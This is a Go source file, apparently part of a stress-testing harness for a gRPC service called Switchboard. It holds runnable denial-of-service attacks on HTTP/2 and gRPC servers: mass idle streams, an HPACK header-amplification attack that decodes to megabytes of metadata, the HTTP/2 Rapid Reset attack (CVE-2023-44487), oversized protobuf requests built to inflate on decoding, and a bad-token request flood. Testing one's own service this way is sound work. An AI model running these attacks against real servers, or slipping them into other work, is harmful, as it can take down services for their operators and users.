package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"

	switchboardv1 "github.com/switchboard-rt/switchboard/gen/switchboard/v1"
)

// The methods the raw HTTP/2 attacks call.
const (
	emitPath  = "/switchboard.v1.SwitchboardService/EmitMessage"
	watchPath = "/grpc.health.v1.Health/Watch"
)

// h2conn is a raw HTTP/2 client connection that sends whatever it is
// told, ignoring the server's settings, and tallies the server's answers.
type h2conn struct {
	c      net.Conn
	wmu    sync.Mutex // held while writing frames: the reader acknowledges settings and pings
	bw     *bufio.Writer
	fr     *http2.Framer
	enc    *hpack.Encoder
	hbuf   bytes.Buffer
	next   uint32        // next stream id
	ended  chan struct{} // closed when the server ends the connection
	closed atomic.Bool   // the attacker closed it
}

// dialH2 opens a connection to t.GRPC and sends the HTTP/2 preface; a
// goroutine then reads every frame, tallying answers into tally.
func dialH2(ctx context.Context, t Target, tally *Tally) (*h2conn, error) {
	c, err := t.dial(ctx, t.GRPC)
	if err != nil {
		return nil, err
	}
	h := &h2conn{c: c, bw: bufio.NewWriterSize(c, 64<<10), next: 1, ended: make(chan struct{})}
	h.fr = http2.NewFramer(h.bw, bufio.NewReader(c))
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.fr.MaxHeaderListSize = 1 << 20
	h.enc = hpack.NewEncoder(&h.hbuf)
	h.bw.WriteString(http2.ClientPreface)
	h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	h.fr.WriteWindowUpdate(0, 1<<30)
	if err := h.bw.Flush(); err != nil {
		c.Close()
		return nil, err
	}
	go h.read(tally)
	return h, nil
}

// read tallies the server's answers until the connection ends: the
// gRPC status of each stream, RST_STREAM and GOAWAY frames by code, and
// "cut" when the server closes the connection.
func (h *h2conn) read(tally *Tally) {
	defer close(h.ended)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			if !h.closed.Load() {
				tally.Add("cut", 1)
			}
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			if s := f.PseudoValue("status"); s != "" && s != "200" {
				tally.Add("HTTP "+s, 1)
			}
			if v := firstField(f, "grpc-status"); v != "" {
				if n, err := strconv.Atoi(v); err == nil {
					tally.Add(codes.Code(n).String(), 1)
				}
			}
		case *http2.RSTStreamFrame:
			tally.Add("RST_STREAM "+f.ErrCode.String(), 1)
		case *http2.GoAwayFrame:
			what := "GOAWAY " + f.ErrCode.String()
			if d := string(f.DebugData()); d != "" {
				what += " " + strconv.Quote(d)
			}
			tally.Add(what, 1)
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.wmu.Lock()
				h.fr.WriteSettingsAck()
				h.bw.Flush()
				h.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				h.wmu.Lock()
				h.fr.WritePing(true, f.Data)
				h.bw.Flush()
				h.wmu.Unlock()
			}
		}
	}
}

func firstField(f *http2.MetaHeadersFrame, name string) string {
	for _, hf := range f.Fields {
		if hf.Name == name {
			return hf.Value
		}
	}
	return ""
}

// headers starts a new stream on path with extra fields, leaving the
// stream open unless end; it returns the stream id. It buffers: call
// flush.
func (h *h2conn) headers(path string, end bool, extra ...hpack.HeaderField) (uint32, error) {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	h.hbuf.Reset()
	// Never indexed, so that HPACK's table keeps only what extra indexes.
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path, Sensitive: true},
		{Name: ":authority", Value: "switchboard", Sensitive: true},
		{Name: "content-type", Value: "application/grpc", Sensitive: true},
		{Name: "te", Value: "trailers", Sensitive: true},
	} {
		h.enc.WriteField(f)
	}
	for _, f := range extra {
		h.enc.WriteField(f)
	}
	id := h.next
	h.next += 2
	return id, h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hbuf.Bytes(), EndHeaders: true, EndStream: end})
}

func (h *h2conn) flush() error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	return h.bw.Flush()
}

// data sends a DATA frame.
func (h *h2conn) data(id uint32, end bool, p []byte) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	return h.fr.WriteData(id, end, p)
}

// reset sends RST_STREAM with CANCEL.
func (h *h2conn) reset(id uint32) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// close ends the connection and waits for its reader.
func (h *h2conn) close() {
	h.closed.Store(true)
	h.c.Close()
	<-h.ended
}

// Streams opens Streams gRPC streams on each of Conns connections without
// ever sending a request body, with Token if set ("authorization: Bearer
// <Token>"), and holds them.
type Streams struct {
	Conns   int
	Streams int
	Token   string
}

// Run opens the streams and holds them until ctx ends; it tallies
// "streams" sent and the answers. It stops opening streams on a
// connection the node cut.
func (a Streams) Run(ctx context.Context, t Target, tally *Tally) error {
	var extra []hpack.HeaderField
	if a.Token != "" {
		extra = append(extra, hpack.HeaderField{Name: "authorization", Value: "Bearer " + a.Token})
	}
	var failed atomic.Value
	workers(a.Conns, func(int) {
		h, err := dialH2(ctx, t, tally)
		if err != nil {
			failed.Store(err)
			return
		}
		defer h.close()
		for i := 0; i < a.Streams && ctx.Err() == nil; i++ {
			if _, err := h.headers(emitPath, false, extra...); err != nil {
				break
			}
			tally.Add("streams", 1)
			if i%256 == 255 {
				if h.flush() != nil {
					break
				}
			}
		}
		h.flush()
		select {
		case <-ctx.Done():
		case <-h.ended:
		}
	})
	if err, ok := failed.Load().(error); ok && tally.Get("streams") == 0 {
		return fmt.Errorf("failed to connect to %s: %w", t.GRPC, err)
	}
	return nil
}

// Metadata opens Streams health Watch streams on one connection, each
// carrying a -bin header of about 3 KB that HPACK indexes once and the
// stream references Refs times: a few bytes on the wire, megabytes of
// metadata once decoded. Health needs no token.
type Metadata struct {
	Streams int
	Refs    int
}

// Run opens the streams and holds them until ctx ends; it tallies
// "streams" sent and the answers.
func (a Metadata) Run(ctx context.Context, t Target, tally *Tally) error {
	refs := a.Refs
	if refs <= 0 {
		refs = 1950
	}
	h, err := dialH2(ctx, t, tally)
	if err != nil {
		return fmt.Errorf("failed to connect to %s: %w", t.GRPC, err)
	}
	defer h.close()
	// 4,000 characters of base64: the field (with its 32 bytes of
	// overhead) just fits HPACK's default 4 KiB table.
	big := hpack.HeaderField{Name: "x-a-bin", Value: base64.RawStdEncoding.EncodeToString(bytes.Repeat([]byte{0xa5}, 3000))}
	extra := make([]hpack.HeaderField, refs)
	for i := range extra {
		extra[i] = big
	}
	// An empty HealthCheckRequest: a gRPC message of no bytes.
	empty := []byte{0, 0, 0, 0, 0}
	for range a.Streams {
		if ctx.Err() != nil {
			break
		}
		id, err := h.headers(watchPath, false, extra...)
		if err == nil {
			err = h.data(id, true, empty)
		}
		if err == nil {
			err = h.flush()
		}
		if err != nil {
			break
		}
		tally.Add("streams", 1)
	}
	select {
	case <-ctx.Done():
	case <-h.ended:
	}
	return nil
}

// RapidReset opens streams and resets each at once (CVE-2023-44487), as
// fast as the connection takes them, on Conns connections; when the node
// cuts one, it connects again.
type RapidReset struct {
	Conns int
}

// Run resets streams until ctx ends; it tallies "streams", the answers
// and "connections" opened.
func (a RapidReset) Run(ctx context.Context, t Target, tally *Tally) error {
	workers(a.Conns, func(int) {
		for ctx.Err() == nil {
			h, err := dialH2(ctx, t, tally)
			if err != nil {
				tally.Add(answer(nil, err), 1)
				time.Sleep(10 * time.Millisecond)
				continue
			}
			tally.Add("connections", 1)
			for n := 0; ctx.Err() == nil; n++ {
				id, err := h.headers(emitPath, false)
				if err == nil {
					err = h.reset(id)
				}
				if err == nil && n%64 == 63 {
					err = h.flush()
				}
				if err != nil {
					break
				}
				tally.Add("streams", 1)
			}
			h.close()
		}
	})
	return nil
}

// rawCodec sends and receives messages that are already encoded.
type rawCodec struct{}

func (rawCodec) Marshal(v any) ([]byte, error) { return *v.(*[]byte), nil }
func (rawCodec) Unmarshal(data []byte, v any) error {
	*v.(*[]byte) = append([]byte(nil), data...)
	return nil
}
func (rawCodec) Name() string { return "proto" }

// grpcConn dials t.GRPC from t.From in plain text.
func grpcConn(t Target) (*grpc.ClientConn, error) {
	return grpc.NewClient("passthrough:///"+t.GRPC,
		grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithContextDialer(func(ctx context.Context, addr string) (net.Conn, error) { return t.dial(ctx, addr) }),
		grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(1<<20)),
	)
}

// emptyValues encodes an EmitMessageRequest of about size bytes whose data
// is a list of empty google.protobuf.Values, two bytes each on the wire and
// a struct each once decoded.
func emptyValues(size int) []byte {
	n := max(1, (size-32)/2)
	list := bytes.Repeat([]byte{0x0a, 0x00}, n) // ListValue.values: empty Value
	value := append(appendTag(nil, 6, len(list)), list...)
	req := append([]byte{0x0a, 0x01, 'E'}, appendTag(nil, 2, len(value))...) // event "E", data
	return append(req, value...)
}

// appendTag appends a length-delimited field's tag and length.
func appendTag(b []byte, field, n int) []byte {
	b = append(b, byte(field<<3|2))
	for n >= 0x80 {
		b = append(b, byte(n)|0x80)
		n >>= 7
	}
	return append(b, byte(n))
}

// BigRequests sends EmitMessage requests of Bytes bytes of empty values,
// without a token, Workers at a time.
type BigRequests struct {
	Workers int
	Bytes   int
}

// Run sends requests until ctx ends, tallying the codes.
func (a BigRequests) Run(ctx context.Context, t Target, tally *Tally) error {
	cc, err := grpcConn(t)
	if err != nil {
		return err
	}
	defer cc.Close()
	req := emptyValues(a.Bytes)
	workers(a.Workers, func(int) {
		for ctx.Err() == nil {
			var resp []byte
			cctx, cancel := context.WithTimeout(ctx, 30*time.Second)
			err := cc.Invoke(cctx, emitPath, &req, &resp, grpc.ForceCodec(rawCodec{}))
			cancel()
			if ctx.Err() == nil {
				tally.Add(status.Code(err).String(), 1)
			}
		}
	})
	return nil
}

// BadToken calls EmitMessage with a wrong token as fast as Workers calls
// in flight allow.
type BadToken struct {
	Workers int
}

// Run calls until ctx ends, tallying the codes.
func (a BadToken) Run(ctx context.Context, t Target, tally *Tally) error {
	cc, err := grpcConn(t)
	if err != nil {
		return err
	}
	defer cc.Close()
	api := switchboardv1.NewSwitchboardServiceClient(cc)
	md := metadata.Pairs("authorization", "Bearer "+strings.Repeat("wrong", 8))
	workers(a.Workers, func(int) {
		for ctx.Err() == nil {
			cctx, cancel := context.WithTimeout(metadata.NewOutgoingContext(ctx, md), 10*time.Second)
			_, err := api.EmitMessage(cctx, &switchboardv1.EmitMessageRequest{Event: "E"})
			cancel()
			if ctx.Err() == nil {
				tally.Add(status.Code(err).String(), 1)
			}
		}
	})
	return nil
}
